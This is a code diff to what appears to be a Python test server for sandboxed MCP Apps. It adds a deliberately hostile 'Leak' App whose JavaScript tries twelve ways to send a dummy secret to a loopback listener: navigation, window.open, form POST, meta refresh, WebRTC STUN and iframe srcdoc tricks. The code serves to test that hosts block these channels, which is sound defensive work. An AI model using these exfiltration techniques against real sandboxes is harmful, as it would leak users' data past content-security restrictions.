@@ -4,7 +4,7 @@
 ``MCPServer(extensions=[apps])`` whose UI-bound tools carry ``_meta.ui.resourceUri`` (and
 ``visibility``), and whose ``ui://`` resources are served as ``text/html;profile=mcp-app`` with
 ``_meta.ui.csp`` (every domain list empty: the App may load or connect to nothing) and
-``prefersBorder``. Two Apps:
+``prefersBorder``. Three Apps:
 
 - **Counter** (``ui://counter/app.html``). Tool ``counter`` (visibility model and app) answers
   the text ``count is N`` and ``structuredContent`` ``{"count": N}`` without changing N; tool
@@ -13,6 +13,8 @@
   (``ui/notifications/tool-result``) in ``#count``; its button ``#inc`` calls ``increment``
   through the host (a ``tools/call`` from the App) and shows the count that comes back. ``#status``
   says where the shown count came from (``tool-result`` or ``increment``) or what failed;
+  ``#input`` shows the tool input the host sent (``ui/notifications/tool-input``) as JSON, ``none``
+  before one arrives (what a reopened output handed the App);
   ``<body data-state>`` is ``connecting``, ``connected`` or ``failed``.
 - **Probe**, a hostile App (``ui://probe/app.html``). Tool ``probe`` (model and app) starts it
   and clears the last report. Once the handshake is done the page tries, each in its own
@@ -26,6 +28,13 @@
   ``report`` (visibility app): once with ``done: false`` just before the navigation attempt (so a
   host that lets the App navigate the top page still leaves a report) and once with
   ``done: true`` after it. ``<body data-state>`` ends ``reported`` (or ``failed``).
+- **Leak**, a hostile App (``ui://leak/app.html``) that declares no domains and tries to send
+  ``LEAK_SECRET`` out in one way, the one the tool's argument ``attempt`` names (one of
+  ``LEAK_ATTEMPTS``), to the loopback listener the server was made with (``leak_target``, an
+  ``http://127.0.0.1:P`` origin, and ``leak_stun``, a ``stun:127.0.0.1:U`` URL): the tool ``leak``
+  answers ``structuredContent`` ``{"attempt", "target", "stun"}``, and the page acts on that tool
+  result. ``<body data-state>`` is then ``attempted`` and ``data-outcome`` ``done`` or
+  ``threw: <error name>``. One attempt per App, because an attempt that works takes the page away.
 
 The report (what ``report`` takes, and what ``last_report`` and ``GET /test/report`` give back)::
 
@@ -94,6 +103,9 @@ __all__ = [
     "OTHER_SERVER_TOOL",
     "PROBES",
     "PROBE_URI",
+    "LEAK_ATTEMPTS",
+    "LEAK_SECRET",
+    "LEAK_URI",
     "AppServerState",
     "AppTestServer",
     "PeersMissing",
@@ -115,6 +127,25 @@ PROBE_TOOL = "probe"
 REPORT_TOOL = "report"
 LAST_REPORT_TOOL = "last_report"
 OTHER_SERVER_TOOL = "other_server_tool"
+LEAK_URI = "ui://leak/app.html"
+LEAK_TOOL = "leak"
+LEAK_SECRET = "app-secret-7f3a"
+"""What the leak App tries to send out (in every URL path, query and form field it uses)."""
+LEAK_ATTEMPTS: tuple[str, ...] = (
+    "href",  # location.href = URL
+    "assign",  # location.assign(URL)
+    "open_self",  # window.open(URL, "_self")
+    "open_blank",  # window.open(URL, "_blank")
+    "a_top",  # a click on <a href=URL target=_top>
+    "a_self",  # a click on <a href=URL>
+    "form",  # a POST form to URL, submitted
+    "meta_refresh",  # <meta http-equiv=refresh content="0;url=URL"> added to the head
+    "webrtc",  # RTCPeerConnection with the STUN server, an offer, ICE gathering
+    "iframe_src",  # <iframe src=URL>
+    "srcdoc_webrtc",  # <iframe srcdoc> whose script does the WebRTC attempt (a fresh window, a fresh RTCPeerConnection)
+    "srcdoc_navigate",  # <iframe srcdoc> whose script does location.href = URL
+)
+"""The leak App's attempts, one per App (the tool's ``attempt`` argument)."""
 """The tool the probe App asks for that this server does not have (it stands for another server's)."""
 
 PROBES: tuple[str, ...] = (
@@ -209,6 +240,7 @@ function show(result, via) {
 
 const app = new App({ name: "mcp-notebook-test-counter", version: "1.0.0" }, {});
 app.addEventListener("toolresult", (params) => show(params, "tool-result"));
+app.addEventListener("toolinput", (params) => { document.getElementById("input").textContent = JSON.stringify(params.arguments ?? null); });
 button.addEventListener("click", async () => {
   button.disabled = true;
   try {
@@ -344,6 +376,63 @@ if (sent) statusEl.textContent = "reported";
 """
 
 
+LEAK_SCRIPT = """
+const { App } = globalThis.__mcpExtApps;
+const SECRET = %(secret)s;
+const rtc = (stun) => `const pc = new RTCPeerConnection({iceServers: [{urls: ${JSON.stringify(stun)}}]}); pc.createDataChannel(${JSON.stringify(SECRET)}); pc.createOffer().then((o) => pc.setLocalDescription(o));`;
+const frame = (script) => { const f = document.createElement("iframe"); f.srcdoc = `<script>${script}<\\/script>`; document.body.appendChild(f); };
+
+const ATTEMPTS = {
+  href: (url) => { location.href = url; },
+  assign: (url) => { location.assign(url); },
+  open_self: (url) => { window.open(url, "_self"); },
+  open_blank: (url) => { if (!window.open(url, "_blank")) throw new Error("window.open returned null"); },
+  a_top: (url) => { const a = document.createElement("a"); a.href = url; a.target = "_top"; document.body.appendChild(a); a.click(); },
+  a_self: (url) => { const a = document.createElement("a"); a.href = url; document.body.appendChild(a); a.click(); },
+  form: (url) => {
+    const form = document.createElement("form");
+    form.method = "post";
+    form.action = url;
+    const field = document.createElement("input");
+    field.name = "data";
+    field.value = SECRET;
+    form.appendChild(field);
+    document.body.appendChild(form);
+    form.submit();
+  },
+  meta_refresh: (url) => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = `0;url=${url}`; document.head.appendChild(m); },
+  webrtc: (url, stun) => {
+    const pc = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
+    pc.createDataChannel(SECRET);
+    pc.createOffer().then((offer) => pc.setLocalDescription(offer));
+  },
+  iframe_src: (url) => { const f = document.createElement("iframe"); f.src = url; document.body.appendChild(f); },
+  srcdoc_webrtc: (url, stun) => frame(rtc(stun)),
+  srcdoc_navigate: (url) => frame(`location.href = ${JSON.stringify(url)};`),
+};
+const app = new App({ name: "mcp-notebook-test-leak", version: "1.0.0" }, {});
+app.addEventListener("toolresult", (result) => {
+  const { attempt, target, stun } = (result && result.structuredContent) || {};
+  document.getElementById("attempt").textContent = String(attempt);
+  const url = `${target}/leak/${attempt}?data=${SECRET}`;
+  let outcome = "done";
+  try {
+    ATTEMPTS[attempt](url, stun);
+  } catch (error) {
+    outcome = `threw: ${(error && error.name) || String(error)}`;
+  }
+  document.body.dataset.outcome = outcome;
+  document.body.dataset.state = "attempted";
+});
+try {
+  await app.connect();
+  document.body.dataset.state = "connected";
+} catch (error) {
+  document.body.dataset.state = "failed";
+}
+"""
+
+
 def page(title: str, body: str, script: str, bundle: str) -> str:
     """An App document: the bundle module, then the App's own module (they run in this order)."""
     return (
@@ -357,13 +446,18 @@ def page(title: str, body: str, script: str, bundle: str) -> str:
 
 
 def counter_html(bundle: str) -> str:
-    body = '<p>Count: <strong id="count">?</strong> <button id="inc" type="button" disabled>+1</button></p>\n<p id="status">connecting</p>'
+    body = '<p>Count: <strong id="count">?</strong> <button id="inc" type="button" disabled>+1</button></p>\n<p id="status">connecting</p>\n<p>Input: <code id="input">none</code></p>'
     return page("Counter", body, COUNTER_SCRIPT, bundle)
 
 
 def probe_html(bundle: str) -> str:
     body = '<p><strong>Sandbox probe</strong> <span id="status">connecting</span></p>\n<ul id="outcomes"></ul>'
     return page("Sandbox probe", body, PROBE_SCRIPT % {"other": json.dumps(OTHER_SERVER_TOOL)}, bundle)
+
+
+def leak_html(bundle: str) -> str:
+    body = '<p><strong>Leak</strong> <span id="attempt">waiting for the tool result</span></p>'
+    return page("Leak", body, LEAK_SCRIPT % {"secret": json.dumps(LEAK_SECRET)}, bundle)
 
 
 # ------------------------------------------------------------------------------------------ the server
@@ -395,8 +489,9 @@ def json_result(data: dict[str, Any]) -> types.CallToolResult:
 class AppTestServer(MCPServer[Any]):
     """The counter and probe Apps on ``MCPServer(extensions=[Apps()])``; see the module docstring."""
 
-    def __init__(self, state: AppServerState | None = None, *, bundle: str | None = None) -> None:
+    def __init__(self, state: AppServerState | None = None, *, bundle: str | None = None, leak_target: str = "", leak_stun: str = "") -> None:
         self.app_state = state or AppServerState()
+        self.leak_target, self.leak_stun = leak_target, leak_stun
         script = view_bundle() if bundle is None else bundle
         apps = Apps()
         apps.add_html_resource(
@@ -424,6 +519,14 @@ class AppTestServer(MCPServer[Any]):
             description="Show an App that tries to escape its sandbox; read the outcomes with last_report.",
             structured_output=False,
         )(self._probe)
+        apps.add_html_resource(LEAK_URI, leak_html(script), name="leak-app", title="Leak", description="Tries to send data out one way.", csp=RESTRICTIVE_CSP)
+        apps.tool(
+            resource_uri=LEAK_URI,
+            visibility=["model", "app"],
+            name=LEAK_TOOL,
+            description=f"Show an App that tries to send data to the test's listener one way (attempt: one of {', '.join(LEAK_ATTEMPTS)}).",
+            structured_output=False,
+        )(self._leak)
         apps.tool(resource_uri=PROBE_URI, visibility=["app"], name=REPORT_TOOL, description="Store the probe App's outcomes (for the probe App only).", structured_output=False)(self._report)
         super().__init__(
             "app-test-server",
@@ -447,6 +550,9 @@ class AppTestServer(MCPServer[Any]):
         self.app_state.report = None
         return types.CallToolResult(content=[types.TextContent(type="text", text=f"The probe App tries to leave its sandbox and reports to {LAST_REPORT_TOOL}.")])
 
+    async def _leak(self, attempt: str) -> types.CallToolResult:
+        return json_result({"attempt": attempt, "target": self.leak_target, "stun": self.leak_stun})
+
     async def _report(self, outcomes: dict[str, str], details: dict[str, str] | None = None, done: bool = True) -> types.CallToolResult:
         report = {"outcomes": outcomes, "details": details or {}, "done": done}
         self.app_state.report = report
@@ -465,9 +571,12 @@ class AppTestServer(MCPServer[Any]):
         return JSONResponse(self.app_state.snapshot())
 
 
-def make_server(state: AppServerState | None = None) -> AppTestServer:
-    """A fresh server (count 0, no report unless ``state`` says otherwise); raises ``PeersMissing`` without ``.peers/npm``."""
-    return AppTestServer(state)
+def make_server(state: AppServerState | None = None, *, leak_target: str = "", leak_stun: str = "") -> AppTestServer:
+    """A fresh server (count 0, no report unless ``state`` says otherwise); raises ``PeersMissing`` without ``.peers/npm``.
+
+    ``leak_target`` and ``leak_stun`` are where the leak App sends its attempts (a test's loopback listener).
+    """
+    return AppTestServer(state, leak_target=leak_target, leak_stun=leak_stun)
 
 
 # ------------------------------------------------------------------------------------------ running
